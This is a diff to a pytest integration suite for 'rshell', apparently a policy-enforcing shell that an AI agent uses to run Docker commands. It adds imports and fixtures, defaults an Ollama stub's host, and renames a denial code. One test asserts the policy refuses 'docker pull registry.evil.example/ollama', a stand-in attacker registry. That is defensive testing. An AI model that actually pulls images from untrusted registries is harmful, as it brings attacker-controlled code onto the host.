@@ -11,6 +11,8 @@ from pathlib import Path
 
 import pytest
 
+from rshell.ctl.setup.networks import Network
+
 from tests.core.test_corpus import DENY_BUT_ALLOWED, line_of
 from tests.support import corpus
 
@@ -19,6 +21,7 @@ from .compose import Plugin, made_plugin
 from .engine import Engine
 from .ground import wait_until
 from .install import Installed
+from .logs import DevLog
 from .registry import Registry, mirror
 from .sshd import Client
 
@@ -27,7 +30,7 @@ pytestmark = pytest.mark.real
 OLLAMA = """#!/bin/sh
 case $1 in
 serve) echo "Listening on :11434"; exec httpd -f -p 11434 -h /www;;
-*) exec wget -qO- "http://$OLLAMA_HOST/cgi-bin/$1?$2";;
+*) exec wget -qO- "http://${OLLAMA_HOST:-127.0.0.1:11434}/cgi-bin/$1?$2";;
 esac
 """
 PAGE = "#!/bin/sh\necho Content-Type: text/plain\necho\nmkdir -p /root/.ollama/models; cd /root/.ollama/models\n"
@@ -61,7 +64,7 @@ def plugin(base: Path) -> Iterator[Plugin]:
 @pytest.fixture
 def lab(engine: Engine, plugin: Plugin) -> Iterator[Registry]:
     """The network `lab`, the volume `ollama`, and where images come from; nothing of the day stays."""
-    engine.docker("network", "create", "lab")
+    assert Network("lab").do() == ""
     engine.docker("volume", "create", "ollama")
     with mirror(engine) as registry:
         registry.add("ollama/ollama", SCRIPTS, Entrypoint=["ollama"], Cmd=["serve"], Env=["PATH=/bin"])
@@ -114,7 +117,7 @@ def test_the_day_of_an_agent_that_benchmarks_models(ssh: Client, engine: Engine,
     assert agent.does("docker network ls --format '{{.Name}}' | grep lab && docker volume ls -q") == "lab\nollama\n"
 
     # It fetches an image, from where the policy says.
-    agent.may_not("docker pull registry.evil.example/ollama", "docker.pull.operand-denied")
+    agent.may_not("docker pull registry.evil.example/ollama", "docker.pull.operand")
     assert agent.does("docker pull --quiet ollama/ollama") == "docker.io/ollama/ollama:latest\n"
     assert lab.asked == {"ollama/ollama"}
 
@@ -158,7 +161,7 @@ def test_the_day_of_an_agent_that_benchmarks_models(ssh: Client, engine: Engine,
 
 
 def test_what_the_corpus_forbids_leaves_nothing_behind(
-    account: Account, installed: Installed, engine: Engine
+    account: Account, installed: Installed, engine: Engine, log_listener: DevLog
 ) -> None:
     engine.docker("run", "--detach", "--network=none", "--name=web", "--stop-signal=KILL", engine.image, "sleep", "3600")
     try:
